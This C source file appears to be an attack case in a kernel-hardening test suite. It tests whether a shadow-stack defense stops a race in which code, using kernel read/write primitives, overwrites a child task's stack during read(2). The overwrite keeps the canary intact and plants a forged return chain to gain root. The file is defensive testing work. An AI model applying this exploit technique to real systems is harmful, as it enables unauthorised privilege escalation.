// SPDX-License-Identifier: GPL-2.0-only
#include "forged_chain.h"

ATTACK("shadow_stack", "replayed_canary", "shadow_stack: return address changed",
       "While a function with an array on its stack runs on another CPU, the program "
       "overflows the array upwards without a gap: the canary as it was, then a return "
       "address of its own.",
       "A function returns only to a place that calls it, whether its canary is sound or "
       "not.",
       "The function finds its canary sound, returns where the program wants, and the "
       "program is root.");

#define PART (4l << 20)
#define PARTS 48 /* of the same memory: the read takes much longer than the attacker */
/* The call stands this far from the caller's start at most. */
#define CALLER_SIZE 4096

static bool control(void)
{
	return is_ordinary();
}

/* A page that is not clear once a read has begun, as the attacker sees too, then the parts. */
static uint64_t *map_parts(void)
{
	const long file = call2(__NR_memfd_create, (long)"part", 0);
	const long area = call6(__NR_mmap, 0, PAGE + PARTS * PART, PROT_READ | PROT_WRITE,
				MAP_SHARED | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

	call2(__NR_ftruncate, file, PART);
	for (long i = 0; i < PARTS; i++)
		call6(__NR_mmap, area + PAGE + i * PART, PART, PROT_READ | PROT_WRITE,
		      MAP_SHARED | MAP_FIXED, file, 0);
	return (uint64_t *)area;
}

/* Reads of random bytes: a loop in the kernel around an array of 256 bytes. */
static void read_until_root(uint64_t *area)
{
	const long file = call3(__NR_open, (long)"/dev/urandom", O_RDONLY, 0);

	(void)own_cpu(1);
	do
		call3(__NR_read, file, (long)area, PAGE + PARTS * PART);
	while (call0(__NR_geteuid) != 0);
	leave(reads_prize() ? 1 : 0);
}

/*
 * The first canary from the stack's end downwards that has a saved frame pointer and a return
 * address into read(2)'s function above it; its place, or 0.
 */
static uint64_t find_canary(uint64_t top, uint64_t canary)
{
	const uint64_t caller = symbol("sys_read");

	for (uint64_t at = top - 8; at > top - KERNEL_STACK_SIZE + 8; at -= 8) {
		if (peek(at) != canary)
			continue;
		for (uint64_t above = at + 8; above < at + 80 && above < top; above += 8)
			if (peek(above) - caller < CALLER_SIZE && peek(above - 8) - at < 256)
				return at;
	}
	return 0;
}

static bool overflow(uint64_t child, uint64_t top)
{
	const uint64_t canary = peek(child + member("task.arch.stack_canary"));
	const uint64_t start = find_canary(top, canary), caller = symbol("sys_read");
	uint64_t words[16 + CHAIN_SIZE / 8], slot;
	unsigned int count = 0;

	if (!start)
		return false;
	for (slot = start; peek(slot) - caller >= CALLER_SIZE; slot += 8)
		words[count++] = peek(slot);
	if (slot + CHAIN_SIZE > top)
		return false;
	make_chain(words + count, slot, child, top);
	count += CHAIN_SIZE / 8;
	if (find_canary(top, canary) != start)
		return false;
	for (unsigned int i = 0; i < count; i++)
		poke(start + 8 * i, words[i]);
	return true;
}

/* A read has just begun: none ends while its frame is being written. */
static bool read_begins(uint64_t *area)
{
	return __atomic_exchange_n(area, 0, __ATOMIC_RELAXED) != 0;
}

static bool fire(void)
{
	const uint64_t task = own_task();
	uint64_t *area = map_parts(), child, top;
	const long id = fork_program();
	int status = 0;

	if (id == 0)
		read_until_root(area);
	(void)own_cpu(0);
	child = child_task(task, id);
	top = peek(child + member("task.stack_top"));
	for (; call4(__NR_wait4, id, (long)&status, 1, 0) == 0; sleep_milliseconds(1))
		if (read_begins(area))
			(void)overflow(child, top);
	if ((status & 0x7f) == SIGKILL)
		call2(__NR_kill, call0(__NR_getpid), SIGKILL);
	return status >> 8 == 1;
}

static void victim(void)
{
	victim_waits();
}
